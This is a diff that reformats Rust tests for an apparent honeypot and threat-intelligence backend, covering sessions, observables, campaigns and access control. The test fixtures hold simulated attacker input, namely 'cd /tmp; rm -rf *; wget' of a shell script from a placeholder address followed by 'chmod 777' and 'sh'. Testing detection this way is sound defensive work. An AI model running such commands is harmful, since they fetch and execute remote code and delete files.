@@ -46,8 +46,11 @@ async fn a_loader_becomes_a_session_an_observable_and_a_decision() {
         assert_eq!(detail.reason.rule, "file");
         assert_eq!(detail.urls, ["http://198.51.100.9/x.sh"]);
         assert_eq!(detail.events.len(), attack.len());
-        let again: Vec<_> =
-            detail.events.iter().map(|event| serde_json::from_str::<logwire::attack::AttackEvent>(&event.body).unwrap()).collect();
+        let again: Vec<_> = detail
+            .events
+            .iter()
+            .map(|event| serde_json::from_str::<logwire::attack::AttackEvent>(&event.body).unwrap())
+            .collect();
         assert_eq!(again, attack, "the very events, as acknowledged");
 
         let source = centre.reads.observable(&all(), ValueKind::Ipv4, "203.0.113.7", None).await.unwrap();
@@ -89,7 +92,8 @@ async fn datagrams_and_silent_connections_mint_nothing() {
         let trap = centre.sensor(1, org(1)).await;
         let mut events = Vec::new();
         for number in 0..50 {
-            let mut forged = Attack::new(&format!("u{number}"), "203.0.113.9", START).then(What::UdpProbe { size: 64 }).events;
+            let mut forged =
+                Attack::new(&format!("u{number}"), "203.0.113.9", START).then(What::UdpProbe { size: 64 }).events;
             forged.iter_mut().for_each(|event| event.transport = Transport::Udp);
             events.extend(forged);
             events.extend(Attack::new(&format!("t{number}"), "203.0.113.10", START).closes());
@@ -145,7 +149,8 @@ async fn campaigns_join_by_what_is_shared_and_keep_the_older_id() {
         let mut centre = Centre::open(db, env).await;
         let trap = centre.sensor(1, org(1)).await;
         let typed = ["cd /tmp; rm -rf *; wget http://198.51.100.9/a.sh", "chmod 777 a.sh; sh a.sh", "rm -f a.sh; exit"];
-        let other = ["cd /tmp; rm -rf *; wget http://198.51.100.77/a.sh", "chmod 777 a.sh; sh a.sh", "rm -f a.sh; exit"];
+        let other =
+            ["cd /tmp; rm -rf *; wget http://198.51.100.77/a.sh", "chmod 777 a.sh; sh a.sh", "rm -f a.sh; exit"];
         let mut seq = 1;
         let mut campaigns = Vec::new();
         for (name, source, pairs, lines) in [
@@ -212,7 +217,11 @@ async fn others_see_what_they_are_cleared_for() {
         assert_eq!(list.items.len(), 1, "the other's inside address is not shown");
         let campaign = &centre.reads.campaigns(&one, &Page::default()).await.unwrap().items[0];
         assert_eq!(centre.reads.campaign(&one, campaign.id).await.unwrap().contacts.len(), 1);
-        let theirs = centre.reads.sessions(&all(), &SessionFilter { org: Some(org(2)), ..SessionFilter::default() }, &Page::default()).await.unwrap();
+        let theirs = centre
+            .reads
+            .sessions(&all(), &SessionFilter { org: Some(org(2)), ..SessionFilter::default() }, &Page::default())
+            .await
+            .unwrap();
         assert!(centre.reads.session(&one, theirs.items[0].id).await.is_err(), "as if it were absent");
         let everything = centre.reads.totals(&all()).await.unwrap();
         assert_eq!((everything.sessions_day, everything.sources_day, everything.campaigns_day), (3, 2, 1));
@@ -228,7 +237,9 @@ async fn pages_go_on_where_they_ended() {
         let mut centre = Centre::open(db, env).await;
         let trap = centre.sensor(1, org(1)).await;
         let events: Vec<_> = (0..7)
-            .flat_map(|n| Attack::new(&format!("p{n}"), &format!("203.0.113.{}", n + 1), START.plus_secs(n)).tries(LIST).closes())
+            .flat_map(|n| {
+                Attack::new(&format!("p{n}"), &format!("203.0.113.{}", n + 1), START.plus_secs(n)).tries(LIST).closes()
+            })
             .collect();
         centre.send(&trap, 1, 1, &events).await;
         let (mut seen, mut page) = (Vec::new(), Page::first(3));
